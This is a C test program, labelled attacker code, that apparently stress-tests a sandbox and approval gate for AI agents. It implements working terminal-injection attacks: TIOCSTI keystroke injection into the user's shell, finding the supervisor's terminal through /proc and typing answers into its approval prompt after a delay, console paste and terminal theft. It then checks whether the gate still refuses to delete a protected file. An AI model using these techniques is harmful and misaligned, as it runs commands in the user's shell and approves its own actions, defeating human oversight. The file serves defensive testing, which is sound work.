/*
 * Attacks on the user's terminal and the approval prompt (docs/SECURITY.md,
 * docs/attesta-run.md "Terminals"). An agent that shares the user's
 * terminal can type into it: what it pushes with TIOCSTI is read by the
 * user's shell once attesta-run exits, outside the gate. A root agent can
 * also find the terminal of an ancestor (the supervisor's, where the
 * approval prompt is shown) from /proc/PID/stat's tty_nr and type into it.
 *
 *   sti TEXT            TIOCSTI every byte of TEXT and a newline into fd 0
 *   sti-ancestor TEXT   the same into the terminal of the nearest ancestor
 *                       in another session (found by tty_nr among the
 *                       descriptors we inherited, then in /dev/pts),
 *                       opened O_NOCTTY
 *   sti-ancestor-later SECONDS WORD...
 *                       in a background child: after SECONDS, type each
 *                       WORD and Enter (CR) into the ancestor's terminal:
 *                       the answers to an approval prompt shown there
 *   tioclinux           TIOCLINUX TIOCL_PASTESEL on fd 0 (paste the console
 *                       selection into the input); off a virtual console
 *                       the kernel answers EINVAL/ENOTTY
 *   sctty-steal         TIOCSCTTY with argument 1 on the ancestor's
 *                       terminal (steal it from its session, root only),
 *                       after setsid() in a forked child
 *
 * Prints one RESULT line; exits 0 when the call succeeded, 1 when refused
 * (EPERM/EACCES), 2 otherwise. After the attack it checks that the gate
 * still works (removing alive.txt is allowed, PROTECTED.txt denied) when
 * those files exist. Attacker code.
 */
#include "adv.h"

#include <dirent.h>
#include <linux/tiocl.h>
#include <signal.h>
#include <sys/ioctl.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>

/* tty_nr of pid (field 7 of /proc/PID/stat), its parent (field 4) and
 * session (field 6). */
static int proc_stat(pid_t pid, pid_t *ppid, pid_t *sid, unsigned *tty_nr)
{
	char path[64], buf[1024];
	snprintf(path, sizeof path, "/proc/%d/stat", (int)pid);
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return -1;
	ssize_t n = read(fd, buf, sizeof buf - 1);
	close(fd);
	if (n <= 0)
		return -1;
	buf[n] = 0;
	char *p = strrchr(buf, ')');
	int pp, pg, s;
	char st;
	if (!p || sscanf(p + 1, " %c %d %d %d %u", &st, &pp, &pg, &s, tty_nr) != 5)
		return -1;
	*ppid = pp;
	*sid = s;
	return 0;
}

/* A terminal device numbered want that is not our controlling terminal
 * (own; device numbers alone do not tell, since a devpts instance of the
 * sandbox numbers its ptys from 0 like the host's). */
static bool other_terminal(const struct stat *st, dev_t want, const struct stat *own)
{
	return S_ISCHR(st->st_mode) && st->st_rdev == want &&
	       !(own && st->st_dev == own->st_dev && st->st_ino == own->st_ino);
}

/* The terminal of the nearest ancestor in another session (the
 * supervisor's, or the user's shell's), opened O_NOCTTY: a descriptor we
 * inherited (fd 3 and up: a sandbox with a devpts instance of its own
 * hides the user's /dev/pts/N by path), else by its /dev/pts name. */
static int ancestor_terminal(char *name, size_t size)
{
	pid_t me = getpid(), pid, parent, my_sid, sid;
	unsigned mine = 0, tty = 0;
	if (proc_stat(me, &pid, &my_sid, &mine) < 0)
		return -1;
	while (pid > 1) {
		if (proc_stat(pid, &parent, &sid, &tty) < 0)
			return -1;
		if (tty && sid != my_sid)
			break;
		pid = parent;
		tty = 0;
	}
	if (!tty) {
		errno = ENOTTY;
		return -1;
	}
	dev_t want = makedev((tty >> 8) & 0xfff, (tty & 0xff) | ((tty >> 12) & 0xfff00));
	/* our controlling terminal is on fd 0 when we have one */
	struct stat st, own_st, *own = NULL;
	if (mine && fstat(STDIN_FILENO, &own_st) == 0 && own_st.st_rdev == makedev(
		(mine >> 8) & 0xfff, (mine & 0xff) | ((mine >> 12) & 0xfff00)))
		own = &own_st;
	int fd = -1;
	for (int i = 3; fd < 0 && i < 64; i++) {
		if (fstat(i, &st) == 0 && other_terminal(&st, want, own)) {
			snprintf(name, size, "/proc/self/fd/%d", i);
			fd = i;
		}
	}
	errno = 0;
	DIR *d = fd < 0 ? opendir("/dev/pts") : NULL;
	struct dirent *e;
	while (d && (e = readdir(d))) {
		snprintf(name, size, "/dev/pts/%s", e->d_name);
		if (stat(name, &st) == 0 && other_terminal(&st, want, own)) {
			fd = open(name, O_RDWR | O_NOCTTY | O_CLOEXEC);
			break;
		}
	}
	if (d)
		closedir(d);
	if (fd < 0 && errno == 0)
		errno = ENOENT;
	if (fd >= 0)
		adv_say("INFO ancestor %d has terminal %s\n", (int)pid, name);
	return fd;
}

static long inject(int fd, const char *text, char end)
{
	for (const char *p = text;; p++) {
		char c = *p ? *p : end;
		long rc = syscall(SYS_ioctl, fd, TIOCSTI, &c);
		if (rc < 0)
			return rc;
		if (!*p)
			return 0;
	}
}

static long attack(int argc, char **argv)
{
	const char *a = argv[1];
	char name[300];

	if (!strcmp(a, "sti") && argc == 3)
		return inject(STDIN_FILENO, argv[2], '\n');
	if (!strcmp(a, "sti-ancestor") && argc == 3) {
		int fd = ancestor_terminal(name, sizeof name);
		return fd < 0 ? -1 : inject(fd, argv[2], '\n');
	}
	if (!strcmp(a, "sti-ancestor-later") && argc >= 4) {
		/* found before the fork: once this process exits, the child's
		 * walk up the process tree could meet it half gone (ENOENT) */
		int fd = ancestor_terminal(name, sizeof name);
		int found_errno = errno;
		pid_t pid = fork();
		if (pid != 0)
			return pid < 0 ? -1 : 0; /* the child reports */
		long rc = fd < 0 ? -1 : 0;
		errno = found_errno;
		sleep((unsigned)atoi(argv[2]));
		for (int i = 3; rc == 0 && i < argc; i++) {
			rc = inject(fd, argv[i], '\r');
			usleep(500000);
		}
		adv_result("typed-answers", rc, errno);
		_exit(0);
	}
	if (!strcmp(a, "tioclinux")) {
		char sub = TIOCL_PASTESEL;
		return syscall(SYS_ioctl, STDIN_FILENO, TIOCLINUX, &sub);
	}
	if (!strcmp(a, "sctty-steal")) {
		int fd = ancestor_terminal(name, sizeof name);
		if (fd < 0)
			return -1;
		int p[2];
		if (pipe(p) < 0)
			return -1;
		pid_t pid = fork();
		if (pid == 0) {
			int r[2] = { 0, 0 };
			if (setsid() < 0 || (r[0] = (int)syscall(SYS_ioctl, fd, TIOCSCTTY, 1)) < 0)
				r[1] = errno;
			(void)!write(p[1], r, sizeof r);
			_exit(0);
		}
		int r[2] = { -1, EIO };
		(void)!read(p[0], r, sizeof r);
		waitpid(pid, NULL, 0);
		errno = r[1];
		return r[0];
	}
	adv_say("SETUP unknown attack '%s'\n", a);
	_exit(ADV_SETUP);
}

int main(int argc, char **argv)
{
	if (argc < 2) {
		fprintf(stderr, "usage: adv_term ATTACK [TEXT]\n");
		return ADV_SETUP;
	}
	errno = 0;
	long rc = attack(argc, argv);
	int code = adv_result(argv[1], rc, errno);
	if (access("alive.txt", F_OK) == 0) {
		long alive = adv_unlink("alive.txt");
		adv_result("alive-allowed", alive, errno);
		long bad = adv_unlink("PROTECTED.txt");
		adv_result("alive-forbidden", bad, errno);
	}
	return code;
}
